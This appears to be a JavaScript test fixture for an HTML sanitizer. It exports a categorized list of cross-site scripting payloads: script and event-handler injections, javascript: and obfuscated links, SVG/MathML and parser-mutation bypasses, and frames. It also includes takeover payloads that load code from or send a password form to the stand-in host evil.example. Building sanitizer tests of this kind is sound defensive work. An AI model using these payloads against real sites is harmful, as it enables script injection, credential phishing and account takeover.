/** Each calls `hack()` on success. */
const evil = 'https://evil.example'

const scripts = [
  '<script>hack()</script>',
  '<SCRIPT SRC="data:text/javascript,hack()"></SCRIPT>',
  '<scr<script>ipt>hack()</scr</script>ipt>',
  '<script/x>hack()</script/x>',
  '<script type="module">hack()</script>',
  '<script\f>hack()</script\f>',
  '<noscript><p title="</noscript><img src=x onerror=hack()>"></noscript>',
  '<template><script>hack()</script></template>',
  '<div><template shadowrootmode="open"><img src=x onerror=hack()></template></div>',
  `<script src="${evil}/x.js"></script>`,
]

const handlers = [
  '<img src=x onerror=hack()>',
  '<img/src=x/onerror=hack()>',
  '<img src=x onerror\n=\nhack()>',
  '<img src=x oNeRrOr="&#104;ack()">',
  '<img src="x` `<script>hack()</script>"` `>',
  '<img """><script>hack()</script>">',
  '<body onload=hack()>',
  '<p onmouseover=hack() onclick=hack() onfocus=hack() tabindex=0>Наведите</p>',
  '<input autofocus onfocus=hack()>',
  '<select autofocus onfocus=hack()></select>',
  '<textarea autofocus onfocus=hack()></textarea>',
  '<details open ontoggle=hack()><summary>Подробнее</summary></details>',
  '<video><source onerror=hack()></video>',
  '<audio src=x onerror=hack()></audio>',
  '<video poster=x onloadstart=hack() src=x></video>',
  '<marquee onstart=hack()>Бегущая строка</marquee>',
  '<div onpointerenter=hack() onanimationstart=hack() style="animation:x">Область</div>',
  '<div contenteditable onbeforeinput=hack() onblur=hack()>Пишите</div>',
  '<button popovertarget=x onclick=hack()>Открыть</button><div popover id=x onbeforetoggle=hack()>x</div>',
  '<x onclick=hack() tabindex=1 id=x>Свой элемент</x>',
]

const links = [
  '<a href="javascript:hack()">Нажмите</a>',
  '<a href="JaVaScRiPt:hack()">Нажмите</a>',
  '<a href=" &#1; javascript:hack()">Нажмите</a>',
  '<a href="java&#9;script:hack()">Нажмите</a>',
  '<a href="java&#10;script&colon;hack()">Нажмите</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hack()">Нажмите</a>',
  '<a href="vbscript:hack()">Нажмите</a>',
  '<a href="data:text/html,<script>opener.hack()</script>">Нажмите</a>',
  '<a href="blob:https://cabinet/1">Нажмите</a>',
  `<a href="//evil.example/" target="_self">Нажмите</a>`,
  String.raw`<a href="/\evil.example/">Нажмите</a>`,
  String.raw`<a href="/&#9;\evil.example/">Нажмите</a><a href="/&#10;/evil.example/">Нажмите</a>`,
  String.raw`<a href="\\evil.example/">Нажмите</a><a href="&#1;/\evil.example/">Нажмите</a>`,
  String.raw`<img src="/\evil.example/a.png" alt="">`,
  `<a href="${evil}" target="_top" rel="opener" ping="${evil}/ping" onclick="hack()">Нажмите</a>`,
  '<a href="#" id="main" name="body">Нажмите</a>',
  '<svg><a xlink:href="javascript:hack()"><text x=20 y=20>Нажмите</text></a></svg>',
  '<map name=m><area shape=default href="javascript:hack()"></map><img usemap="#m" src="/icons/icon-192.png">',
]

const foreign = [
  '<svg onload=hack()></svg>',
  '<svg><script>hack()</script></svg>',
  '<svg><script href="data:text/javascript,hack()"></script></svg>',
  '<svg><animate onbegin=hack() attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values=javascript:hack() /><text y=20>Нажмите</text></a></svg>',
  '<svg><set attributeName=onmouseover to=hack()><rect width=99 height=99></rect></set></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hack()</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=hack() /></svg>#x"></use></svg>',
  '<svg><style><img src=x onerror=hack()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=hack()>"></svg>',
  '<math><maction actiontype="statusline#x" xlink:href="javascript:hack()">x</maction></math>',
  '<math href="javascript:hack()">Нажмите</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hack()&gt;"></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hack()></style></mglyph></form>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hack()></annotation-xml></math>',
]

const mutations = [
  '<!--><img src=x onerror=hack()>-->',
  '<!-- --!><img src=x onerror=hack()> -->',
  '<![CDATA[><img src=x onerror=hack()>]]>',
  '<? foo="><img src=x onerror=hack()>">',
  '<title><img src="</title><img src=x onerror=hack()>"></title>',
  '<style><img src="</style><img src=x onerror=hack()>"></style>',
  '<textarea><img src="</textarea><img src=x onerror=hack()>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=hack()>"></xmp>',
  '<noembed><img src="</noembed><img src=x onerror=hack()>"></noembed>',
  '<select><iframe></select><img src=x onerror=hack()>',
  '<table><a href="#"><td><svg onload=hack()></svg></td></a></table>',
  `${'<div>'.repeat(600)}<img src=x onerror=hack()>`,
  '<plaintext><img src=x onerror=hack()>',
]

const frames = [
  '<iframe src="javascript:parent.hack()"></iframe>',
  '<iframe srcdoc="<script>parent.hack()</script>"></iframe>',
  '<iframe src="data:text/html,<script>parent.hack()</script>"></iframe>',
  `<frameset><frame src="${evil}"></frameset>`,
  '<object data="data:text/html,<script>parent.hack()</script>"></object>',
  '<embed src="javascript:hack()">',
  '<applet code="x" archive="x.jar"></applet>',
  `<portal src="${evil}"></portal>`,
]

const takings = [
  `<base href="${evil}/"><a href="#/meters/list/">Счётчики</a>`,
  `<meta http-equiv="refresh" content="0;url=${evil}/">`,
  '<meta http-equiv="refresh" content="0;url=javascript:hack()">',
  `<link rel="stylesheet" href="${evil}/x.css">`,
  `<style>@import "${evil}/x.css"; body { display: none }</style>`,
  '<div style="position:fixed;inset:0;z-index:99999;background:url(javascript:hack())">Обновите страницу</div>',
  `<img src="${evil}/pixel.png" srcset="${evil}/pixel2.png 2x" style="width:0">`,
  `<form action="${evil}" onsubmit=hack()><input name=password type=password><button>Войти</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:hack()">Войти</button>`,
  '<form><input name=attributes><input name=parentNode></form>',
  '<img name=getElementById src="/icons/icon-192.png"><a id=documentElement>x</a>',
  '<p id="main" class="dialog" role="alert" aria-label="Войдите снова" slot="x" is="x-y">Текст</p>',
  '<dialog open class="dialog"><p>Сеанс закончился. Введите пароль</p></dialog>',
]

export const hostileHtml = { scripts, handlers, links, foreign, mutations, frames, takings }
